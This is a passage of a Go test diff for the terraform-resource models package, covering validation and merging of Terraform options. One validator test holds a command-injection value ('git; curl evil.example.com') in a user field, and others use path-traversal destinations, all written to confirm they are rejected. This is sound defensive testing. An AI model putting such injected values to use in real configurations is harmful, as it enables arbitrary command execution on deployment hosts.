@@ -5,6 +5,7 @@ import (
 	"io/ioutil"
 	"os"
 	"path"
+	"time"
 
 	"github.com/ljfranklin/terraform-resource/models"
 
@@ -48,21 +49,318 @@ var _ = Describe("Terraform Models", func() {
 			Expect(err).ToNot(HaveOccurred())
 		})
 
+		It("returns an error if Parallelism is negative", func() {
+			model := models.Terraform{
+				Parallelism: -1,
+			}
+
+			err := model.Validate()
+			Expect(err).To(MatchError(ContainSubstring("parallelism")))
+		})
+
+		It("returns an error if LockTimeout is not a valid duration", func() {
+			model := models.Terraform{
+				LockTimeout: "ten minutes",
+			}
+
+			err := model.Validate()
+			Expect(err).To(MatchError(ContainSubstring("lock_timeout")))
+			Expect(err).To(MatchError(ContainSubstring("ten minutes")))
+		})
+
+		It("returns an error if LockTimeout is negative", func() {
+			model := models.Terraform{
+				LockTimeout: "-5m",
+			}
+
+			Expect(model.Validate()).To(MatchError(ContainSubstring("must not be negative")))
+		})
+
+		It("accepts a valid LockTimeout", func() {
+			for _, timeout := range []string{"10m", "0s"} {
+				model := models.Terraform{
+					LockTimeout: timeout,
+				}
+
+				Expect(model.Validate()).To(Succeed())
+			}
+		})
+
+		It("returns an error if MaxRetries is negative", func() {
+			model := models.Terraform{
+				MaxRetries: -1,
+			}
+
+			Expect(model.Validate()).To(MatchError(ContainSubstring("`max_retries` must not be negative")))
+		})
+
+		It("returns an error if RetryDelay is not a valid duration", func() {
+			model := models.Terraform{
+				RetryDelay: "five seconds",
+			}
+
+			err := model.Validate()
+			Expect(err).To(MatchError(ContainSubstring("retry_delay")))
+			Expect(err).To(MatchError(ContainSubstring("five seconds")))
+		})
+
+		It("returns an error if PrivateKeyUser could inject shell commands", func() {
+			model := models.Terraform{
+				PrivateKeyUser: "git; curl evil.example.com",
+			}
+
+			Expect(model.Validate()).To(MatchError(ContainSubstring("Invalid `private_key_user` 'git; curl evil.example.com'")))
+		})
+
+		It("returns an error if a SensitiveOutputNames pattern is malformed", func() {
+			model := models.Terraform{
+				SensitiveOutputNames: []string{"*_password", "[invalid"},
+			}
+
+			Expect(model.Validate()).To(MatchError(ContainSubstring("Invalid pattern in `sensitive_output_names`: '[invalid'")))
+		})
+
+		It("returns an error if a ModuleOverrideFiles dst is absolute", func() {
+			model := models.Terraform{
+				ModuleOverrideFiles: []map[string]string{{"src": "net_override.tf", "dst": "/etc/modules"}},
+			}
+
+			err := model.Validate()
+			Expect(err).To(MatchError(ContainSubstring("must be relative to `terraform_source`")))
+			Expect(err).To(MatchError(ContainSubstring("/etc/modules")))
+		})
+
+		It("returns an error if a ModuleOverrideFiles dst escapes the source", func() {
+			for _, dst := range []string{"..", "../other", "modules/../../other"} {
+				model := models.Terraform{
+					ModuleOverrideFiles: []map[string]string{{"src": "net_override.tf", "dst": dst}},
+				}
+
+				Expect(model.Validate()).To(MatchError(ContainSubstring("must not be outside of `terraform_source`")), dst)
+			}
+		})
+
+		It("accepts a ModuleOverrideFiles dst inside the source", func() {
+			for _, dst := range []string{"modules/network", "./modules/network", "modules/../network", "..modules"} {
+				model := models.Terraform{
+					ModuleOverrideFiles: []map[string]string{{"src": "net_override.tf", "dst": dst}},
+				}
+
+				Expect(model.Validate()).To(Succeed(), dst)
+			}
+		})
+
+		Context("when TerraformBinaryPath is set", func() {
+			var binDir string
+
+			BeforeEach(func() {
+				var err error
+				binDir, err = ioutil.TempDir("", "terraform-resource-binary-test")
+				Expect(err).ToNot(HaveOccurred())
+			})
+
+			AfterEach(func() {
+				_ = os.RemoveAll(binDir)
+			})
+
+			It("accepts an executable file", func() {
+				binaryPath := path.Join(binDir, "terraform")
+				Expect(ioutil.WriteFile(binaryPath, []byte("#!/bin/sh"), 0755)).To(Succeed())
+
+				model := models.Terraform{TerraformBinaryPath: binaryPath}
+				Expect(model.Validate()).To(Succeed())
+			})
+
+			It("returns an error if the file does not exist", func() {
+				model := models.Terraform{TerraformBinaryPath: path.Join(binDir, "missing")}
+				Expect(model.Validate()).To(MatchError(ContainSubstring("terraform_binary_path")))
+			})
+
+			It("returns an error if the file is not executable", func() {
+				binaryPath := path.Join(binDir, "terraform")
+				Expect(ioutil.WriteFile(binaryPath, []byte("#!/bin/sh"), 0644)).To(Succeed())
+
+				model := models.Terraform{TerraformBinaryPath: binaryPath}
+				Expect(model.Validate()).To(MatchError(ContainSubstring("must be an executable file")))
+			})
+
+			It("returns an error if the path is a directory", func() {
+				model := models.Terraform{TerraformBinaryPath: binDir}
+				Expect(model.Validate()).To(MatchError(ContainSubstring("must be an executable file")))
+			})
+
+			It("returns an error if TerraformVersion is also set", func() {
+				binaryPath := path.Join(binDir, "terraform")
+				Expect(ioutil.WriteFile(binaryPath, []byte("#!/bin/sh"), 0755)).To(Succeed())
+
+				model := models.Terraform{TerraformBinaryPath: binaryPath, TerraformVersion: "1.5.7"}
+				Expect(model.Validate()).To(MatchError(ContainSubstring("Cannot specify both `terraform_version` and `terraform_binary_path`")))
+			})
+		})
+
+		Context("when PluginDir is set", func() {
+			var sourceDir string
+
+			BeforeEach(func() {
+				var err error
+				sourceDir, err = ioutil.TempDir("", "terraform-resource-plugin-dir-test")
+				Expect(err).ToNot(HaveOccurred())
+				Expect(os.MkdirAll(path.Join(sourceDir, "plugins"), 0755)).To(Succeed())
+			})
+
+			AfterEach(func() {
+				_ = os.RemoveAll(sourceDir)
+			})
+
+			It("accepts a non-empty directory relative to Source", func() {
+				Expect(os.MkdirAll(path.Join(sourceDir, "plugins", "registry.terraform.io"), 0755)).To(Succeed())
+
+				model := models.Terraform{Source: sourceDir, PluginDir: "plugins"}
+				Expect(model.ValidatePluginDir()).To(Succeed())
+			})
+
+			It("returns an error if the directory does not exist", func() {
+				model := models.Terraform{Source: sourceDir, PluginDir: "missing"}
+				Expect(model.ValidatePluginDir()).To(MatchError(ContainSubstring("Invalid `plugin_dir` 'missing'")))
+			})
+
+			It("returns an error if the directory is empty", func() {
+				model := models.Terraform{Source: sourceDir, PluginDir: path.Join(sourceDir, "plugins")}
+				Expect(model.ValidatePluginDir()).To(MatchError(ContainSubstring("the directory is empty")))
+			})
+		})
+
+		It("returns an error if BackendConfigFile is not a file", func() {
+			model := models.Terraform{BackendConfigFile: "/missing/backend.hcl"}
+			Expect(model.Validate()).To(MatchError(ContainSubstring("Invalid `backend_config_file` '/missing/backend.hcl'")))
+
+			model = models.Terraform{BackendConfigFile: os.TempDir()}
+			Expect(model.Validate()).To(MatchError(ContainSubstring("must be a file")))
+		})
+
+		It("returns an error if a BackendConfigFiles entry is missing", func() {
+			model := models.Terraform{BackendConfigFiles: []string{"/missing/region.hcl"}}
+			Expect(model.Validate()).To(MatchError(ContainSubstring("Invalid `backend_config_files` entry '/missing/region.hcl'")))
+		})
+
+		It("appends BackendConfigFiles from params after those from source", func() {
+			sourceFiles := []string{"source.hcl"}
+			baseModel := models.Terraform{BackendConfigFiles: sourceFiles}
+			mergeModel := models.Terraform{BackendConfigFiles: []string{"params.hcl"}}
+
+			Expect(baseModel.Merge(mergeModel).BackendConfigFiles).To(Equal([]string{"source.hcl", "params.hcl"}))
+			Expect(baseModel.Merge(models.Terraform{}).BackendConfigFiles).To(Equal([]string{"source.hcl"}))
+			Expect(sourceFiles).To(Equal([]string{"source.hcl"}))
+		})
+
+		It("validates LockRetry", func() {
+			model := models.Terraform{LockRetry: &models.LockRetry{Attempts: 10, Interval: "30s"}}
+			Expect(model.Validate()).To(Succeed())
+
+			model.LockRetry = &models.LockRetry{Attempts: 0, Interval: "30s"}
+			Expect(model.Validate()).To(MatchError("`lock_retry.attempts` must be at least 1, got '0'"))
+
+			model.LockRetry = &models.LockRetry{Attempts: 10, Interval: "soon"}
+			Expect(model.Validate()).To(MatchError(ContainSubstring("Invalid `lock_retry.interval` 'soon'")))
+
+			model.LockRetry = &models.LockRetry{Attempts: 10, Interval: "0s"}
+			Expect(model.Validate()).To(MatchError(ContainSubstring("must be positive")))
+
+			model.LockRetry = &models.LockRetry{Attempts: 200, Interval: "1m"}
+			Expect(model.Validate()).To(MatchError(ContainSubstring("would wait longer than 1h0m0s in total")))
+		})
+
+		It("returns an error if both PrivateKey and SSHPrivateKey are set", func() {
+			model := models.Terraform{PrivateKey: "fake-key", SSHPrivateKey: "fake-key"}
+			Expect(model.Validate()).To(MatchError("Cannot specify both `private_key` and `ssh_private_key`"))
+		})
+
+		It("returns an error if the remote backend uses a single workspace name", func() {
+			model := models.Terraform{
+				BackendType: "remote",
+				BackendConfig: map[string]interface{}{
+					"workspaces": map[string]interface{}{"name": "app"},
+				},
+			}
+			Expect(model.Validate()).To(MatchError(ContainSubstring("requires `backend_config.workspaces.prefix` rather than `workspaces.name`")))
+
+			model.BackendConfig = map[string]interface{}{
+				"workspaces": map[string]interface{}{"prefix": "app-"},
+			}
+			Expect(model.Validate()).To(Succeed())
+		})
+
+		It("returns an error from ValidateReadOnly for backends which write on init", func() {
+			Expect(models.Terraform{BackendType: "s3"}.ValidateReadOnly()).To(Succeed())
+
+			err := models.Terraform{BackendType: "etcdv3"}.ValidateReadOnly()
+			Expect(err).To(MatchError(ContainSubstring("`read_only` is not supported with backend_type 'etcdv3'")))
+
+			model := models.Terraform{
+				BackendType:   "pg",
+				BackendConfig: map[string]interface{}{"skip_schema_creation": true},
+			}
+			Expect(model.ValidateReadOnly()).To(MatchError(ContainSubstring("requires `backend_config.skip_table_creation: true`")))
+
+			model.BackendConfig["skip_table_creation"] = true
+			model.BackendConfig["skip_index_creation"] = true
+			Expect(model.ValidateReadOnly()).To(Succeed())
+		})
+
+		It("returns an error if TerraformVersion is not a release version", func() {
+			model := models.Terraform{TerraformVersion: "latest"}
+			Expect(model.Validate()).To(MatchError(ContainSubstring("Invalid `terraform_version` 'latest'")))
+
+			model = models.Terraform{TerraformVersion: "1.5.7"}
+			Expect(model.Validate()).To(Succeed())
+		})
+
+		It("returns an error if EnvPerAction contains an unknown action", func() {
+			model := models.Terraform{
+				EnvPerAction: map[string]map[string]string{
+					"deploy": {"FAKE_KEY": "fake-value"},
+				},
+			}
+
+			err := model.Validate()
+			Expect(err).To(MatchError(ContainSubstring("deploy")))
+		})
+
+		It("returns an error if BackendChangeMode is unknown", func() {
+			model := models.Terraform{
+				Source:            "fake-source",
+				BackendChangeMode: "bad-mode",
+			}
+
+			err := model.Validate()
+			Expect(err).To(MatchError(ContainSubstring("bad-mode")))
+		})
+
 		It("merges non-var fields", func() {
 			baseModel := models.Terraform{
 				Source: "base-source",
 			}
 			mergeModel := models.Terraform{
-				StateFileLocalPath:  "fake-local-path",
-				StateFileRemotePath: "fake-remote-path",
-				DeleteOnFailure:     true,
-				ImportFiles:         []string{"fake-imports-path"},
-				OverrideFiles:       []string{"fake-override-path"},
-				ModuleOverrideFiles: []map[string]string{map[string]string{"src": "fake-override-src-path", "dst": "fake-override-dst-path"}},
-				Imports:             map[string]string{"fake-key": "fake-value"},
-				PluginDir:           "fake-plugin-path",
-				BackendType:         "fake-type",
-				BackendConfig:       map[string]interface{}{"fake-backend-key": "fake-backend-value"},
+				StateFileLocalPath:   "fake-local-path",
+				StateFileRemotePath:  "fake-remote-path",
+				DeleteOnFailure:      true,
+				ImportFiles:          []string{"fake-imports-path"},
+				OverrideFiles:        []string{"fake-override-path"},
+				ModuleOverrideFiles:  []map[string]string{map[string]string{"src": "fake-override-src-path", "dst": "fake-override-dst-path"}},
+				Targets:              []string{"aws_instance.fake"},
+				Parallelism:          5,
+				Imports:              map[string]string{"fake-key": "fake-value"},
+				PluginDir:            "fake-plugin-path",
+				TerraformBinaryPath:  "/opt/terraform/1.7.0/terraform",
+				TerraformVersion:     "1.7.0",
+				BackendType:          "fake-type",
+				BackendConfig:        map[string]interface{}{"fake-backend-key": "fake-backend-value"},
+				BackendConfigFile:    "fake-backend.hcl",
+				ApproveBackendChange: true,
+				BackendChangeMode:    models.BackendChangeReconfigure,
+				SensitiveOutputNames: []string{"*_password"},
+				PluginCacheDir:       "fake-plugin-cache",
+				InitUpgrade:          true,
 			}
 
 			finalModel := baseModel.Merge(mergeModel)
@@ -73,10 +371,235 @@ var _ = Describe("Terraform Models", func() {
 			Expect(finalModel.ImportFiles).To(Equal([]string{"fake-imports-path"}))
 			Expect(finalModel.OverrideFiles).To(Equal([]string{"fake-override-path"}))
 			Expect(finalModel.ModuleOverrideFiles).To(Equal([]map[string]string{map[string]string{"src": "fake-override-src-path", "dst": "fake-override-dst-path"}}))
+			Expect(finalModel.Targets).To(Equal([]string{"aws_instance.fake"}))
+			Expect(finalModel.Parallelism).To(Equal(5))
 			Expect(finalModel.Imports).To(Equal(map[string]string{"fake-key": "fake-value"}))
 			Expect(finalModel.PluginDir).To(Equal("fake-plugin-path"))
+			Expect(finalModel.TerraformBinaryPath).To(Equal("/opt/terraform/1.7.0/terraform"))
+			Expect(finalModel.TerraformVersion).To(Equal("1.7.0"))
 			Expect(finalModel.BackendType).To(Equal("fake-type"))
 			Expect(finalModel.BackendConfig).To(Equal(map[string]interface{}{"fake-backend-key": "fake-backend-value"}))
+			Expect(finalModel.BackendConfigFile).To(Equal("fake-backend.hcl"))
+			Expect(finalModel.ApproveBackendChange).To(BeTrue())
+			Expect(finalModel.BackendChangeMode).To(Equal(models.BackendChangeReconfigure))
+			Expect(finalModel.SensitiveOutputNames).To(Equal([]string{"*_password"}))
+			Expect(finalModel.PluginCacheDir).To(Equal("fake-plugin-cache"))
+			Expect(finalModel.InitUpgrade).To(BeTrue())
+		})
+	})
+
+	Describe("Lock", func() {
+		It("leaves lock unset if neither source nor params set it", func() {
+			finalModel := models.Terraform{}.Merge(models.Terraform{})
+			Expect(finalModel.Lock).To(BeNil())
+		})
+
+		It("allows params to disable locking enabled in source", func() {
+			enabled := true
+			disabled := false
+			baseModel := models.Terraform{
+				Lock: &enabled,
+			}
+
+			finalModel := baseModel.Merge(models.Terraform{Lock: &disabled})
+			Expect(*finalModel.Lock).To(BeFalse())
+		})
+
+		It("allows params to re-enable locking disabled in source", func() {
+			enabled := true
+			disabled := false
+			baseModel := models.Terraform{
+				Lock: &disabled,
+			}
+
+			finalModel := baseModel.Merge(models.Terraform{Lock: &enabled})
+			Expect(*finalModel.Lock).To(BeTrue())
+		})
+
+		It("keeps the source lock if params do not set it", func() {
+			disabled := false
+			baseModel := models.Terraform{
+				Lock: &disabled,
+			}
+
+			finalModel := baseModel.Merge(models.Terraform{})
+			Expect(*finalModel.Lock).To(BeFalse())
+		})
+	})
+
+	Describe("Refresh", func() {
+		It("does not skip refresh by default", func() {
+			finalModel := models.Terraform{}.Merge(models.Terraform{})
+			Expect(finalModel.Refresh).To(BeNil())
+			Expect(finalModel.SkipRefresh()).To(BeFalse())
+		})
+
+		It("allows params to skip refresh enabled in source", func() {
+			enabled := true
+			disabled := false
+			baseModel := models.Terraform{
+				Refresh: &enabled,
+			}
+
+			finalModel := baseModel.Merge(models.Terraform{Refresh: &disabled})
+			Expect(finalModel.SkipRefresh()).To(BeTrue())
+		})
+
+		It("allows params to re-enable refresh disabled in source", func() {
+			enabled := true
+			disabled := false
+			baseModel := models.Terraform{
+				Refresh: &disabled,
+			}
+
+			finalModel := baseModel.Merge(models.Terraform{Refresh: &enabled})
+			Expect(finalModel.SkipRefresh()).To(BeFalse())
+		})
+	})
+
+	Describe("Retries", func() {
+		It("overrides the source retries with the param retries", func() {
+			baseModel := models.Terraform{
+				MaxRetries: 3,
+				RetryDelay: "10s",
+			}
+
+			finalModel := baseModel.Merge(models.Terraform{MaxRetries: 5})
+			Expect(finalModel.MaxRetries).To(Equal(5))
+			Expect(finalModel.RetryDelayDuration()).To(Equal(10 * time.Second))
+		})
+
+		It("defaults the retry delay to 5s", func() {
+			Expect(models.Terraform{}.RetryDelayDuration()).To(Equal(5 * time.Second))
+		})
+	})
+
+	Describe("#GitSSHCommand", func() {
+		It("logs in as the merged PrivateKeyUser", func() {
+			baseModel := models.Terraform{
+				PrivateKeyUser: "deploy",
+			}
+
+			finalModel := baseModel.Merge(models.Terraform{PrivateKey: "fake-key"})
+			Expect(finalModel.GitSSHCommand()).To(Equal("ssh -l deploy"))
+		})
+
+		It("leaves git's default command without a PrivateKeyUser or PrivateKey", func() {
+			Expect(models.Terraform{PrivateKey: "fake-key"}.GitSSHCommand()).To(BeEmpty())
+			Expect(models.Terraform{PrivateKeyUser: "deploy"}.GitSSHCommand()).To(BeEmpty())
+		})
+	})
+
+	Describe("LockTimeout", func() {
+		It("keeps the source lock timeout if no param lock timeout is given", func() {
+			baseModel := models.Terraform{
+				LockTimeout: "5m",
+			}
+
+			finalModel := baseModel.Merge(models.Terraform{})
+			Expect(finalModel.LockTimeout).To(Equal("5m"))
+		})
+
+		It("overrides the source lock timeout with the param lock timeout", func() {
+			baseModel := models.Terraform{
+				LockTimeout: "5m",
+			}
+			mergeModel := models.Terraform{
+				LockTimeout: "30s",
+			}
+
+			finalModel := baseModel.Merge(mergeModel)
+			Expect(finalModel.LockTimeout).To(Equal("30s"))
+		})
+	})
+
+	Describe("Parallelism", func() {
+		It("keeps the source parallelism if no param parallelism is given", func() {
+			baseModel := models.Terraform{
+				Parallelism: 4,
+			}
+
+			finalModel := baseModel.Merge(models.Terraform{})
+			Expect(finalModel.Parallelism).To(Equal(4))
+		})
+
+		It("overrides the source parallelism with the param parallelism", func() {
+			baseModel := models.Terraform{
+				Parallelism: 4,
+			}
+			mergeModel := models.Terraform{
+				Parallelism: 2,
+			}
+
+			finalModel := baseModel.Merge(mergeModel)
+			Expect(finalModel.Parallelism).To(Equal(2))
+		})
+	})
+
+	Describe("Targets", func() {
+		It("overrides the source targets with the param targets", func() {
+			baseModel := models.Terraform{
+				Targets: []string{"aws_instance.base"},
+			}
+			mergeModel := models.Terraform{
+				Targets: []string{"aws_instance.merged", "module.network"},
+			}
+
+			finalModel := baseModel.Merge(mergeModel)
+			Expect(finalModel.Targets).To(Equal([]string{"aws_instance.merged", "module.network"}))
+		})
+
+		It("keeps the source targets if no param targets are given", func() {
+			baseModel := models.Terraform{
+				Targets: []string{"aws_instance.base"},
+			}
+
+			finalModel := baseModel.Merge(models.Terraform{})
+			Expect(finalModel.Targets).To(Equal([]string{"aws_instance.base"}))
+		})
+
+		It("clears the source targets if the param targets are empty", func() {
+			baseModel := models.Terraform{
+				Targets: []string{"aws_instance.base"},
+			}
+			mergeModel := models.Terraform{
+				Targets: []string{},
+			}
+
+			finalModel := baseModel.Merge(mergeModel)
+			Expect(finalModel.Targets).To(BeEmpty())
+		})
+	})
+
+	Describe("Replace", func() {
+		It("appends the param replace addresses to the source ones", func() {
+			baseModel := models.Terraform{
+				Replace: []string{"aws_instance.base"},
+			}
+			mergeModel := models.Terraform{
+				Replace: []string{"aws_instance.merged"},
+			}
+
+			finalModel := baseModel.Merge(mergeModel)
+			Expect(finalModel.Replace).To(Equal([]string{"aws_instance.base", "aws_instance.merged"}))
+			Expect(baseModel.Replace).To(Equal([]string{"aws_instance.base"}))
+		})
+
+		It("returns an error for an empty address", func() {
+			model := models.Terraform{
+				Replace: []string{"aws_instance.a", ""},
+			}
+
+			Expect(model.Validate()).To(MatchError("`replace` entries must not be empty"))
+		})
+
+		It("returns an error if combined with targets", func() {
+			model := models.Terraform{
+				Targets: []string{"aws_instance.a"},
+				Replace: []string{"aws_instance.b"},
+			}
+
+			Expect(model.Validate()).To(MatchError("`replace` cannot be combined with `targets`"))
 		})
 	})
 
@@ -152,6 +675,191 @@ some_hcl_key = "some_hcl_value"
 			Expect(err).ToNot(HaveOccurred())
 			Expect(string(varFile3)).To(Equal(hclFileContents))
 		})
+
+		It("resolves YAML anchors and aliases in VarFiles", func() {
+			yamlFileContents := `
+defaults: &defaults
+  region: &region us-east-1
+  size: small
+staging:
+  <<: *defaults
+  size: large
+primary_region: *region
+`
+			varFile := writeToTempFile(tmpDir, yamlFileContents, ".yml")
+
+			model := models.Terraform{
+				VarFiles: []string{varFile},
+			}
+
+			err := model.ConvertVarFiles(tmpDir)
+			Expect(err).ToNot(HaveOccurred())
+			Expect(model.ConvertedVarFiles).To(HaveLen(2))
+
+			varFileContents, err := ioutil.ReadFile(model.ConvertedVarFiles[1])
+			Expect(err).ToNot(HaveOccurred())
+			var vars map[string]interface{}
+			Expect(json.Unmarshal(varFileContents, &vars)).To(Succeed())
+			Expect(vars).To(Equal(map[string]interface{}{
+				"defaults": map[string]interface{}{
+					"region": "us-east-1",
+					"size":   "small",
+				},
+				"staging": map[string]interface{}{
+					"region": "us-east-1",
+					"size":   "large",
+				},
+				"primary_region": "us-east-1",
+			}))
+		})
+
+		It("falls back to YAML for VarFiles without a recognised extension", func() {
+			varFiles := []string{
+				writeToTempFile(tmpDir, `{"some_json_key": "some_json_value"}`, ".vars"),
+				writeToTempFile(tmpDir, "# comments are allowed\nsome_yaml_key: some_yaml_value\n", ".vars"),
+			}
+
+			model := models.Terraform{
+				VarFiles: varFiles,
+			}
+
+			err := model.ConvertVarFiles(tmpDir)
+			Expect(err).ToNot(HaveOccurred())
+
+			Expect(model.ConvertedVarFiles).To(HaveLen(3))
+			Expect(readJsonFile(model.ConvertedVarFiles[1])).To(Equal(map[string]string{
+				"some_json_key": "some_json_value",
+			}))
+			Expect(readJsonFile(model.ConvertedVarFiles[2])).To(Equal(map[string]string{
+				"some_yaml_key": "some_yaml_value",
+			}))
+		})
+
+		It("passes VarFiles without a recognised extension which look like HCL to Terraform", func() {
+			hclFileContents := "# written by an earlier task\nregion = \"us-east-1\"\nzones = [\"a\", \"b\"]\ntags = {\n  team = \"infra\"\n}\n"
+			varFile := writeToTempFile(tmpDir, hclFileContents, ".vars")
+
+			model := models.Terraform{
+				VarFiles: []string{varFile},
+			}
+
+			err := model.ConvertVarFiles(tmpDir)
+			Expect(err).ToNot(HaveOccurred())
+
+			Expect(model.ConvertedVarFiles).To(HaveLen(2))
+			Expect(model.ConvertedVarFiles[1]).To(HaveSuffix(".tfvars"))
+			contents, err := ioutil.ReadFile(model.ConvertedVarFiles[1])
+			Expect(err).ToNot(HaveOccurred())
+			Expect(string(contents)).To(Equal(hclFileContents))
+		})
+
+		It("returns an error naming the parser if a VarFile is not a map", func() {
+			varFile := writeToTempFile(tmpDir, "- item-1\n- item-2\n", ".yml")
+
+			model := models.Terraform{
+				VarFiles: []string{varFile},
+			}
+
+			err := model.ConvertVarFiles(tmpDir)
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(ContainSubstring("Failed to parse YAML var file"))
+			Expect(err.Error()).To(ContainSubstring("expected a map of variable names to values"))
+			Expect(err.Error()).To(ContainSubstring(varFile))
+		})
+
+		It("returns an error if a VarFile without a recognised extension can't be parsed", func() {
+			varFile := writeToTempFile(tmpDir, "just some text", ".vars")
+
+			model := models.Terraform{
+				VarFiles: []string{varFile},
+			}
+
+			err := model.ConvertVarFiles(tmpDir)
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(ContainSubstring("as JSON, YAML, or HCL"))
+			Expect(err.Error()).To(ContainSubstring(varFile))
+		})
+
+		It("returns an error if a .json VarFile is not valid JSON", func() {
+			varFile := writeToTempFile(tmpDir, "some_yaml_key: some_yaml_value", ".json")
+
+			model := models.Terraform{
+				VarFiles: []string{varFile},
+			}
+
+			err := model.ConvertVarFiles(tmpDir)
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(ContainSubstring("Failed to parse JSON var file"))
+			Expect(err.Error()).To(ContainSubstring(varFile))
+		})
+
+		Context("when VarsViaEnv is set", func() {
+			It("sets a TF_VAR_ entry per var instead of writing a file", func() {
+				varFile := writeToTempFile(tmpDir, "some_yaml_key: some_yaml_value", ".yaml")
+				model := models.Terraform{
+					VarsViaEnv: true,
+					Vars: map[string]interface{}{
+						"region":  "us-east-1",
+						"count":   3,
+						"enabled": true,
+						"tags":    map[string]interface{}{"team": "platform"},
+						"zones":   []interface{}{"a", "b"},
+					},
+					VarFiles: []string{varFile},
+				}
+
+				Expect(model.ConvertVarFiles(tmpDir)).To(Succeed())
+
+				Expect(model.VarsEnv).To(Equal(map[string]string{
+					"TF_VAR_region":  "us-east-1",
+					"TF_VAR_count":   "3",
+					"TF_VAR_enabled": "true",
+					"TF_VAR_tags":    `{"team":"platform"}`,
+					"TF_VAR_zones":   `["a","b"]`,
+				}))
+				Expect(model.ConvertedVarFiles).To(HaveLen(1))
+				contents, err := ioutil.ReadFile(model.ConvertedVarFiles[0])
+				Expect(err).ToNot(HaveOccurred())
+				Expect(string(contents)).To(ContainSubstring("some_yaml_value"))
+			})
+
+			It("returns an error naming the var if it conflicts with env", func() {
+				model := models.Terraform{
+					VarsViaEnv: true,
+					Vars:       map[string]interface{}{"password": "super-secret"},
+					Env:        map[string]string{"TF_VAR_password": "other-secret"},
+				}
+
+				err := model.ConvertVarFiles(tmpDir)
+				Expect(err).To(MatchError("`vars.password` conflicts with `env.TF_VAR_password` when using `vars_via_env`, remove one of them"))
+			})
+
+			It("returns an error if the var conflicts with env_per_action", func() {
+				model := models.Terraform{
+					VarsViaEnv:   true,
+					Vars:         map[string]interface{}{"password": "super-secret"},
+					EnvPerAction: map[string]map[string]string{"destroy": {"TF_VAR_password": "other-secret"}},
+				}
+
+				err := model.ConvertVarFiles(tmpDir)
+				Expect(err).To(MatchError(ContainSubstring("`env_per_action.destroy.TF_VAR_password`")))
+				Expect(err.Error()).ToNot(ContainSubstring("secret"))
+			})
+
+			It("returns an error if the var conflicts with pass_env_to_terraform", func() {
+				Expect(os.Setenv("TF_VAR_password", "other-secret")).To(Succeed())
+				defer os.Unsetenv("TF_VAR_password")
+				model := models.Terraform{
+					VarsViaEnv:         true,
+					Vars:               map[string]interface{}{"password": "super-secret"},
+					PassEnvToTerraform: []string{"TF_VAR_password"},
+				}
+				Expect(model.ConvertVarFiles(tmpDir)).To(Succeed())
+
+				err := model.ParsePassEnv()
+				Expect(err).To(MatchError(ContainSubstring("conflicts with `vars` when using `vars_via_env`")))
+			})
+		})
 	})
 
 	Describe("Env", func() {
@@ -178,6 +886,186 @@ some_hcl_key = "some_hcl_value"
 		})
 	})
 
+	Describe("EnvPerAction", func() {
+		var model models.Terraform
+
+		BeforeEach(func() {
+			model = models.Terraform{
+				Env: map[string]string{
+					"AWS_REGION":        "us-east-1",
+					"AWS_ACCESS_KEY_ID": "base-key",
+				},
+				EnvPerAction: map[string]map[string]string{
+					models.EnvActionPlan: {
+						"AWS_ACCESS_KEY_ID": "read-only-key",
+					},
+					models.EnvActionApply: {
+						"AWS_ACCESS_KEY_ID": "write-key",
+					},
+				},
+			}
+		})
+
+		It("merges the action env over the base env", func() {
+			Expect(model.EnvForAction(models.EnvActionPlan)).To(Equal(map[string]string{
+				"AWS_REGION":        "us-east-1",
+				"AWS_ACCESS_KEY_ID": "read-only-key",
+			}))
+			Expect(model.EnvForAction(models.EnvActionApply)).To(Equal(map[string]string{
+				"AWS_REGION":        "us-east-1",
+				"AWS_ACCESS_KEY_ID": "write-key",
+			}))
+			Expect(model.EnvForAction(models.EnvActionDestroy)).To(Equal(map[string]string{
+				"AWS_REGION":        "us-east-1",
+				"AWS_ACCESS_KEY_ID": "base-key",
+			}))
+		})
+
+		It("detects when a mutating action would use the plan env", func() {
+			Expect(model.UsesPlanEnv(models.EnvActionPlan)).To(BeFalse())
+			Expect(model.UsesPlanEnv(models.EnvActionApply)).To(BeFalse())
+			Expect(model.UsesPlanEnv(models.EnvActionDestroy)).To(BeFalse())
+
+			model.Env["AWS_ACCESS_KEY_ID"] = "read-only-key"
+			Expect(model.UsesPlanEnv(models.EnvActionDestroy)).To(BeTrue())
+		})
+
+		It("merges the per action env from the Merged model", func() {
+			mergeModel := models.Terraform{
+				EnvPerAction: map[string]map[string]string{
+					models.EnvActionApply: {
+						"AWS_SESSION_TOKEN": "write-token",
+					},
+					models.EnvActionDestroy: {
+						"AWS_ACCESS_KEY_ID": "destroy-key",
+					},
+				},
+			}
+
+			finalModel := model.Merge(mergeModel)
+			Expect(finalModel.EnvPerAction).To(Equal(map[string]map[string]string{
+				models.EnvActionPlan: {
+					"AWS_ACCESS_KEY_ID": "read-only-key",
+				},
+				models.EnvActionApply: {
+					"AWS_ACCESS_KEY_ID": "write-key",
+					"AWS_SESSION_TOKEN": "write-token",
+				},
+				models.EnvActionDestroy: {
+					"AWS_ACCESS_KEY_ID": "destroy-key",
+				},
+			}))
+		})
+
+		It("picks the env action for each put", func() {
+			Expect(models.OutParams{Terraform: models.Terraform{PlanOnly: true}}.EnvAction()).To(Equal(models.EnvActionPlan))
+			Expect(models.OutParams{Action: models.DestroyAction}.EnvAction()).To(Equal(models.EnvActionDestroy))
+			Expect(models.OutParams{}.EnvAction()).To(Equal(models.EnvActionApply))
+			Expect(models.OutParams{Terraform: models.Terraform{PlanRun: true}}.EnvAction()).To(Equal(models.EnvActionApply))
+		})
+	})
+
+	Describe("ParseBackendConfigFromEnv", func() {
+		BeforeEach(func() {
+			os.Setenv("TF_BACKEND_ACCESS_KEY", "env-access-key")
+			os.Setenv("TF_BACKEND_BUCKET", "env-bucket")
+		})
+
+		AfterEach(func() {
+			os.Unsetenv("TF_BACKEND_ACCESS_KEY")
+			os.Unsetenv("TF_BACKEND_BUCKET")
+			os.Unsetenv("TF_BACKEND_")
+		})
+
+		It("adds variables with the prefix to BackendConfig in lowercase", func() {
+			model := models.Terraform{}
+			Expect(model.ParseBackendConfigFromEnv("TF_BACKEND_")).To(Succeed())
+
+			Expect(model.BackendConfig).To(Equal(map[string]interface{}{
+				"access_key": "env-access-key",
+				"bucket":     "env-bucket",
+			}))
+		})
+
+		It("does not override values already in BackendConfig or modify the original map", func() {
+			sourceConfig := map[string]interface{}{"bucket": "static-bucket"}
+			model := models.Terraform{BackendConfig: sourceConfig}
